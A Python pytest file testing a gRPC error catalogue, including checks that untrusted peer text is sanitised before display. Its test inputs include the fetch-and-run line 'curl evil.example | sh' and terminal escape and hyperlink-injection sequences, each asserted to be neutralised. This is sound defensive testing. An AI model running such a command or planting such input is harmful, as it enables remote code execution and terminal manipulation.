"""The error catalogue: complete, documented, and the same on both ends of a call."""

from __future__ import annotations

import string
from pathlib import Path

import grpc
import pytest

from wire.errors import (
    CATALOGUE,
    CODE_KEY,
    HINT_KEY,
    REFUSAL_UNKNOWN,
    ROUND_CLOSED,
    ConfigurationError,
    Fault,
    Refusal,
    catalogue_page,
    from_rpc,
)
from wire.remote_text import visible


def filled(fault: Fault) -> Refusal:
    names = {
        name
        for template in (fault.sentence, fault.hint)
        for _, name, _, _ in string.Formatter().parse(template)
        if name
    }
    return Refusal(fault, **{name: f"some-{name}" for name in names})


class Failed(grpc.aio.AioRpcError):
    """What a client's call raises when a server refused with `refusal`."""

    def __init__(self, refusal: Refusal) -> None:
        super().__init__(
            refusal.status,
            grpc.aio.Metadata(),
            grpc.aio.Metadata(*refusal.metadata()),
            refusal.sentence,
        )


@pytest.mark.parametrize("fault", CATALOGUE.values(), ids=lambda fault: fault.code)
def test_every_fault_says_what_happened_and_what_to_do(fault: Fault) -> None:
    refusal = filled(fault)
    assert refusal.sentence.endswith(".")
    assert refusal.hint
    assert fault.status is not grpc.StatusCode.OK


@pytest.mark.parametrize("fault", CATALOGUE.values(), ids=lambda fault: fault.code)
def test_a_client_reads_the_refusal_the_server_raised(fault: Fault) -> None:
    sent = filled(fault)
    received = from_rpc(Failed(sent))
    assert received is not None
    assert received.is_a(fault)
    if fault is not REFUSAL_UNKNOWN:
        assert received.sentence == sent.sentence
        hint_is_the_callers = fault.hint in {"{hint}", "{fix}"}
        known = {name for _, name, _, _ in string.Formatter().parse(fault.sentence) if name}
        expected = "" if hint_is_the_callers else with_names(fault.hint, known)
        assert received.hint == expected


def with_names(template: str, known: set[str]) -> str:
    """A hint whose fields are filled if the sentence says them, and named in capitals if not."""
    fields = {name for _, name, _, _ in string.Formatter().parse(template) if name}
    return template.format(
        **{name: f"some-{name}" if name in known else name.upper() for name in fields}
    )


class Said(grpc.aio.AioRpcError):
    """What a client's call raises when a server made everything up: code, sentence and hint."""

    def __init__(self, code: str, sentence: str, hint: str = "Run curl evil.example | sh") -> None:
        made_up = grpc.aio.Metadata((CODE_KEY, code), (HINT_KEY, hint))
        super().__init__(grpc.StatusCode.INTERNAL, grpc.aio.Metadata(), made_up, sentence)


def test_a_peers_hint_is_never_shown() -> None:
    received = from_rpc(Said("SILO_SUSPENDED", "Silo north is suspended."))
    assert received is not None
    assert received.sentence == "Silo north is suspended."
    expected = "Nothing has to be done here; the agent goes on when the admin resumes north."
    assert received.hint == expected


@pytest.mark.parametrize(
    "sentence",
    [
        "Your disk is on fire.",
        "Silo x has been revoked. Run `curl evil.example | sh`. Silo y is suspended.",
        "Silo north\nNext: `curl evil.example | sh` is suspended.",
        "Silo \x1b[2Jnorth is suspended.",
        "",
    ],
)
def test_a_sentence_that_is_not_the_catalogues_is_quoted_as_the_peers_words(sentence: str) -> None:
    received = from_rpc(Said("SILO_SUSPENDED", sentence))
    assert received is not None
    assert received.sentence == f'The coordinator says: "{visible(sentence)}"'
    assert received.sentence.isprintable()
    assert "evil" not in received.hint
    assert "NAME" in received.hint


@pytest.mark.parametrize("code", ["NO_SUCH_CODE", "[link=evil]\x1b]8;;evil\x07", "", "A" * 5000])
def test_a_code_that_nobody_knows_is_said_to_be_unknown(code: str) -> None:
    received = from_rpc(Said(code, "Do as I say.\x1b"), "The trainer")
    assert received is not None
    assert received.code == "REFUSAL_UNKNOWN"
    assert r'The trainer says: "Do as I say.\x1b"' in received.sentence
    assert len(received.sentence) < 300
    assert "evil" not in received.hint


def test_an_error_cannot_hold_what_steers_a_terminal() -> None:
    error = ConfigurationError("\x1b[2J one\x9btwo\u202e", "\r\x07")
    assert f"{error}{error.sentence}{error.hint}".isprintable()
    assert len(ConfigurationError("x" * 10**6).sentence) < 11_000


def test_an_error_of_the_transport_is_no_refusal() -> None:
    error = grpc.aio.AioRpcError(
        grpc.StatusCode.UNAVAILABLE, grpc.aio.Metadata(), grpc.aio.Metadata(), "Socket closed"
    )
    assert from_rpc(error) is None


def test_a_hint_survives_metadata_that_must_be_ascii() -> None:
    refusal = Refusal(ROUND_CLOSED, task="täsk", round=1)
    assert all(value.isascii() for _, value in refusal.metadata())


def test_the_documentation_lists_every_fault() -> None:
    assert Path("docs/errors.md").read_text() == catalogue_page() + "\n"
